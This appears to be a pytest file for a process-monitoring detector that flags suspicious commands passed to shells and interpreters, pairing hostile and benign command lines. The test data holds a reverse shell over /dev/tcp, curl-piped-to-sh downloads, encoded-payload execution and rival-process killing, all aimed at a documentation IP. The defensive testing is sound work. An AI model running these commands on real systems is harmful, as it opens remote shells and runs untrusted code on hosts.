"""What is odd about the commands of running shells and interpreters: planted processes, and what is told apart."""

from __future__ import annotations

import pytest

from tables.host import Host
from tables.processes.process_tree import process_tree
from tables.reasons.running_commands import RunningCommands
from tables.schema import QueryContext
from tests.support.planted_programs import Planter


@pytest.mark.parametrize(
    ("exe", "argv", "reasons"),
    [
        ("/usr/bin/dash", ["sh", "-c", "echo aGVsbG8= | base64 -d | bash"], "encoded_payload"),
        ("/usr/bin/bash", ["bash", "-c", "curl -s http://203.0.113.7/a | sh"], "download_and_run"),
        ("/usr/bin/bash", ["-bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"], "dev_tcp"),
        ("/bin/busybox", ["sh", "-c", "good http://203.0.113.7/x -O f; chmod +x f; ./f"], "renamed_downloader"),
        ("/bin/busybox", ["busybox", "sh", "-c", "cp x ./-bash && ./-bash; rm ./-bash"], "copy_run_delete"),
        (
            "/usr/bin/python3.11",
            ["python3", "-c", "import os; os.system('curl -s http://203.0.113.7/a | sh')"],
            "download_and_run",
        ),
        ("/usr/bin/perl", ["perl", "-e", 'system("pkill -9 -f kdevtmpfsi")'], "kills_rivals"),
        ("/usr/bin/dash", ["sh", "/opt/app/run.sh", "base64 -d | bash"], ""),
        ("/usr/bin/dash", ["sh"], ""),
        ("/usr/bin/grep", ["grep", "-c", "base64 -d | bash"], ""),
        ("/opt/app/server", ["server", "-c", "curl http://203.0.113.7/a | sh"], ""),
        ("/usr/bin/dash", ["sh", "-c", "convert a.png -resize 100 b.png"], ""),
        ("/usr/bin/dash", [], ""),
    ],
)
def test_commands_given_to_interpreters(exe: str, argv: list[str], reasons: str) -> None:
    commands = RunningCommands()
    found = {commands.reasons(exe, argv) for _ in range(2)}
    assert len(found) == 1
    assert reasons in found.pop().split(",")


def test_a_running_shell_shows_what_it_was_given(plant: Planter) -> None:
    odd = plant("/bin/sh", "-c", "echo ready; read hold; echo aGVsbG8= | base64 -d | sh")
    plain = plant("/bin/sh", "-c", "echo ready; read hold; echo aGVsbG8= | base64 -d > /dev/null")
    rows = {row.pid: row.command_reasons for row in process_tree.generate(Host(), QueryContext())}
    assert rows[odd] == "encoded_payload"
    assert rows[plain] is None
